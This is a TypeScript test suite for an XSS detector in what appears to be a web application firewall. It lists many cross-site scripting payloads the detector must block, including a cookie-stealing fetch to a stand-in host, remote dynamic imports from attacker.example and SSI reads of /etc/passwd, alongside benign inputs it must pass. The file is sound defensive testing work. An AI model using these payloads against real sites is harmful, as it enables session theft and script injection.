import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { inspect } from '../engine.js';
import type { Finding, Location, Paranoia } from '../types.js';
import { xssDetector } from './xss.js';

function verdict(value: string, paranoia: Paranoia = 2, location: Location = 'query') {
  return inspect([{ location, name: 'q', value }], {
    paranoia,
    threshold: 5,
    exclusions: [],
    detectors: [xssDetector],
  });
}

function rules(value: string, location: Location = 'query'): string[] {
  const out: Finding[] = [];
  xssDetector.detect(value, { location, name: 'q', value }, out);
  return out.map((f) => f.rule);
}

function blocks(values: readonly string[], paranoia: Paranoia = 1, location: Location = 'query'): void {
  for (const v of values) assert.equal(verdict(v, paranoia, location).attack, true, `should block: ${v}`);
}

function passes(values: readonly string[], paranoia: Paranoia = 2, location: Location = 'query'): void {
  for (const v of values) {
    const r = verdict(v, paranoia, location);
    assert.equal(r.attack, false, `should pass: ${v} (${r.matches.map((m) => m.rule).join(', ')})`);
  }
}

describe('xss detector: markup in parameter names', () => {
  it('a tag with an attribute in a form, query or cookie name blocks at PL2, not PL1', () => {
    for (const loc of ['body-name', 'query-name', 'cookie-name', 'multipart-name'] as const) {
      blocks(['x=<a href="y"', '<img/src=x', 'f[<div title =1]', '<A HREF=1>'], 2, loc);
      passes(['x=<a href="y"'], 1, loc);
    }
  });

  it('ordinary names, bare angle brackets and JSON keys do not', () => {
    for (const loc of ['body-name', 'query-name'] as const)
      passes(['price<=100', 'a<b=c', 'filter[<=]', 'sort<a', 'items[0][name]', '<tag>=1'], 2, loc);
    passes(['<a href="https://example.com">docs</a>'], 2, 'json-key');
    assert.deepEqual(rules('title=<a href="x"', 'query'), []);
  });

  it('stays linear on long names', () => {
    const v = '<a a a a a a'.repeat(10_000);
    const t = performance.now();
    xssDetector.detect(v, { location: 'query-name', name: v, value: v }, []);
    assert.ok(performance.now() - t < 150);
  });
});

describe('xss detector: tags with the high bit set (US-ASCII)', () => {
  it('an element opened and closed, or a script tag, in 8-bit look-alikes blocks', () => {
    blocks([
      '\u00bcscript\u00bealert(\u00a2x\u00a2)\u00bc/script\u00be',
      '\u00bcb onmouseover=x()\u00behi\u00bc/b\u00be',
      '\u00bciframe src=//x.example\u00be',
      '\u00bcdiv\u00bex\u00bc/div\u00be',
      '\\xbcscript\\xbealert(1)\\xbc/script\\xbe', // JS escapes, decoded by the engine
    ]);
  });

  it('fractions in prose and recipes do not', () => {
    passes([
      '\u00bc cup sugar and \u00be cup flour',
      'mix \u00bc/\u00be of the batch, \u00a230 each',
      '\u00bcin. bolts (\u00be in. washers)',
      '\u00bc/2\u00be',
      '1\u20444 cup sugar, 3\u20444 cup flour (1\u20444/3\u20444 split)',
    ]);
  });
});

describe('xss detector: tags', () => {
  it('script elements in any spelling the decoders undo', () => {
    blocks([
      '<script>fetch("//x.example/?"+document.cookie)</script>',
      'hello</script><script src=//x.example/a.js>',
      '%3Cscript%3Ex()%3C%2Fscript%3E',
      '%253Cscript%253E',
      '&lt;script&gt;go()&lt;/script&gt;',
      '\uff1cscript\uff1ego()',
      '<SCRIPT/SRC=//x.example>',
      '<svg:script>go()</svg:script>',
      '< x : script>',
      '<s c r i p t>',
    ]);
  });

  it('elements that load or run content', () => {
    blocks([
      '<iframe src=//x.example>',
      '<object data=x.swf>',
      '<embed src=movie.swf>',
      '<applet code=A.class>',
      '<meta http-equiv=refresh content="0;url=//x.example">',
      '<base href=//x.example/>',
      '<link rel=import href=//x.example/a.html>',
      '<style>@import "//x.example/a.css";</style>',
      '<form action=//x.example><input name=pw></form>',
      '<f o r m action=//x.example>',
      '<?import namespace=t implementation=#default#time2>',
      '<v:vmlframe src=//x.example/a.vml>',
    ]);
  });

  it('event handlers, in a tag or injected after a quote', () => {
    blocks([
      '"><img src=x onerror=go()>',
      '<svg/onload=go()>',
      '<body onpageshow=go()>',
      '<details open ontoggle=go()>',
      '<custom-el onsomethingnew=go()>',
      "' autofocus onfocus='go()",
      '" onmouseover="go()',
      '  onload = x',
    ]);
  });

  it('srcdoc, formaction and XML inclusion', () => {
    blocks([
      '<iframe srcdoc="&lt;img src=x onerror=go()&gt;">',
      '" formaction="//x.example',
      '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/hosts"/></r>',
      '<r xmlns="urn:a" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:a http://x.example/a.xsd">',
    ]);
  });

  it('svg and math need company; legacy parser tricks count at PL2', () => {
    assert.equal(verdict('<svg width="10"></svg>', 1).attack, false);
    assert.equal(verdict('<noscript><p title="</noscript>', 1).attack, false);
    assert.equal(verdict('<noscript><p title="</noscript>', 2).attack, true);
    assert.equal(verdict('<xmp>', 2).attack, true);
  });

  it('a comment close is a breakout only at PL2 and only where it cannot be an arrow', () => {
    assert.equal(verdict('-->', 1).attack, false);
    assert.equal(verdict('-->', 2).attack, true);
    assert.equal(verdict('"--><b>', 2).attack, true);
    passes(['A --> B', 'step 1 ---> step 2', 'x -->y']);
  });

  it('server-side includes', () => {
    blocks(['<!--#exec cmd="id"-->', '<!--#include virtual="/etc/passwd"-->']);
  });
});

describe('xss detector: URLs and CSS', () => {
  it('script URLs, including tab/newline and entity splits', () => {
    blocks([
      'javascript:go()',
      '  JaVaScRiPt:go()',
      '<a href="javascript:void(0)">',
      '<a href="jav&#x09;ascript:go()">',
      'java\tscript:go()',
      'jav&NewLine;ascript&colon;go()',
      'java&amp;tab;script:go()',
      'vbscript:MsgBox(1)',
      '{"u": "javascript://%0ago()"}',
      '<iframe src="data:text/html;base64,PGI+">',
      'data:text/html,<b>x</b>',
      'data: , <b>',
      'data:,go()',
    ]);
  });

  it('CSS that runs script', () => {
    blocks([
      '<div style="width: expression(go())">',
      'background-image: url( "javascript:go()" )',
      'x=x:url(javascript',
      'body{-moz-binding:url(//x.example/a.xml#b)}',
      'behavior: url(a.htc)',
    ]);
  });

  it('prose about JavaScript and data is not a URL', () => {
    passes([
      "Read 'JavaScript: The Good Parts' by Crockford",
      'Skills: JavaScript: advanced, Python: basic',
      'metadata: {"a": 1}',
      'data: the new oil',
      'Regular expression (regex) basics',
      'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
    ]);
  });
});

describe('xss detector: script', () => {
  it('sinks called, with comments or digits in front', () => {
    blocks([
      "'-go(1)-'; alert(1)//",
      'prompt(8)',
      'confirm`1`',
      'eval/**/(name)',
      'eval(atob("Z28oKQ=="))',
      'String.fromCharCode(60,98)',
      'setTimeout(name, 0)',
      'setInterval("go()", 10)',
      'new Function("return 1")()',
      "''.constructor.constructor('go()')()",
      '\u00be' + 'alert(1)',
    ]);
  });

  it('tagged template calls', () => {
    blocks(['[].sort.call`${go}1`', '[ ] . map . call `${eval}x`', 'alert`1`']);
  });

  it('DOM and global-object access', () => {
    blocks([
      'document.cookie',
      'document /*x*/ . domain',
      "(document)['cookie']",
      'window.location',
      "self['al'+'ert'](1)",
      "top [ 'doc' ]",
      'el.innerHTML = payload',
      "document.body.appendChild(document.createElement('b'))",
    ]);
  });

  it('JSFuck and UTF-7', () => {
    blocks(['+!![]', '(![]+[])[+!+[]]', '[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]', '+ADw-script+AD4-go()']);
  });

  it('ordinary code and prose with sink-like words pass', () => {
    passes([
      'Please confirm (by replying) that you agree',
      'Write a prompt(s) for the model',
      'Performance eval (Q3) is due',
      'setTimeout(() => done(), 100)',
      'const id = setInterval(tick, 1000);',
      'setTimeout(function () { done(); }, 100)',
      'const doubled = items.map((v) => v * 2);',
      'Use `alert` sparingly; then call `fetch` to load data',
      'window.addEventListener("resize", onResize)',
      'The document.title is shown in the tab',
      'items[0].name',
      'It was [] + {} in the talk "Wat"',
    ]);
  });

  it('document.cookie as a path segment is only suspicious (manual pages)', () => {
    assert.equal(verdict('document.cookie', 2, 'path').attack, false);
    assert.deepEqual(rules('document.cookie', 'path'), ['xss-dom-access-path']);
  });
});

describe('xss detector: benign API values', () => {
  it('names, e-mails, URLs, Markdown, HTML formatting, math', () => {
    passes([
      "O'Brien",
      'Jane <jane.doe@example.com>',
      'https://example.com/search?q=a%3Cb&online=true&onsale=1',
      'https://example.com/?ondemand=1#section=intro',
      '[docs](https://example.com/docs) and **bold** text',
      '<b>bold</b>, <i>italic</i>, <code>x</code><br/>',
      '<a href="https://example.com/docs" title="Docs">docs</a>',
      '<img src="https://cdn.example.com/cat.png" alt="A cat" width="200">',
      '<p style="color: red; font-weight: bold">Hi</p>',
      'if (a < b && c > d) { return a <= b; }',
      'List<String> names = new ArrayList<>();',
      '3 < 5 > 2 and x<y',
      'I <3 APIs',
      'onion=3 once=1 online=yes',
      'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
      'VGhhbmtzLCBmb3IgYWxsIHlvdXIgd29yaw/onafe=',
      'mermaid: A --> B --> C',
      'SELECT name FROM users WHERE id = 1',
      '<template><div class="card">{{ title }}</div></template>',
    ]);
  });

  it('an XML body keeps its own markup (Atom links, namespaces, schema locations)', () => {
    const feed =
      '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:a a.xsd">' +
      '<link href="https://example.com/"/><meta>x</meta><style>plain</style><item onHand="5"/></feed>';
    passes([feed], 2, 'xml');
    blocks(['<r><a probe="&lt;embed src=x&gt;"/></r>', '<r><a probe="&lt;script&gt;"/></r>'], 1, 'xml');
  });

  it('random plain text never blocks', () => {
    const plain = fc.string({
      unit: fc.constantFrom(...'abcdefghijklmnopqrstuvwxyz ABCXYZ0123456789.,;!?\'"-'),
    });
    fc.assert(fc.property(plain, (v) => !verdict(v, 2).attack));
  });
});

describe('xss detector: linear time', () => {
  it('pathological 100 KB values stay fast', () => {
    const shapes = [
      '<a'.repeat(50_000),
      '<a '.repeat(33_333),
      `${'/*'.repeat(100)}${'*/('.repeat(33_000)}`,
      '\t:'.repeat(50_000),
      'a;:'.repeat(33_000),
      'self['.repeat(20_000),
      '`'.repeat(100_000),
      ' onx='.repeat(20_000),
      'url('.repeat(25_000),
      '<a a a a a a a a'.repeat(6_000),
    ];
    for (const v of shapes) {
      const t = performance.now();
      xssDetector.detect(v, { location: 'query', name: 'q', value: v }, []);
      const ms = performance.now() - t;
      assert.ok(ms < 150, `${v.slice(0, 10)}… took ${ms.toFixed(1)} ms`);
    }
  });
});

describe('xss detector: a string closed, then "in" and an assignment', () => {
  it('blocks at PL2, not PL1, with a quote, an entity quote or escapes in the name', () => {
    const values = [
      "'  infoo.bar=",
      '" in window.name=1',
      '"in \\u0076\\u0061l\\u0075e\\u004F\\u0066=',
      '&quot;in \\u0076alueOf=',
      '&#39; in a.b = c',
    ];
    blocks(values, 2);
    for (const v of values) assert.equal(verdict(v, 1).attack, false, v);
  });

  it('leaves prose, search quotes, configs, math and HTML-ish text alone', () => {
    passes([
      '"in stock=1"',
      "'info.name=value'",
      '"index.html"=main',
      'she wrote "in the end" and x.y=2',
      'x<y and y>z',
      'a <b> c',
      "O'Brien in accounts.payable=done",
      '"in progress" status=open',
      '[link](https://example.com/a.b?c=d)',
      "--set 'image.tag=1.2.3'",
    ]);
  });
});

describe('xss detector: sinks reached without a plain call', () => {
  it('blocks optional calls, parenthesized sinks and sinks handed over as callbacks', () => {
    blocks([
      'alert?.(1)',
      '(alert)(1)',
      '(0,eval)(name)',
      '[1].find(alert)',
      'x.map(eval)',
      'top.confirm?.(1)',
    ]);
  });

  it('blocks a dynamic import of a remote or data: module at PL2, not PL1', () => {
    const values = ['import("//attacker.example/x.js")', "import('https://attacker.example/m.mjs')"];
    blocks(values, 2);
    for (const v of values) assert.equal(verdict(v, 1).attack, false, v);
  });

  it('leaves prose with the same words, local imports, Markdown and math alone', () => {
    passes([
      'Set the level (alert) in settings',
      'see (alert) (1)',
      'alert ?.(1)',
      'arr.map(atob)',
      'a warning, e.g.(alert) or i.e.(prompt)',
      "import('./greeting.js')",
      'import (the data) from the sheet',
      'We import (and export) goods.',
      'See [alerts](https://example.com/alerts) (1)',
      'x<y and y>z',
      'a <b> c',
      'https://hooks.example.com/webhook?event=alert',
    ]);
  });
});
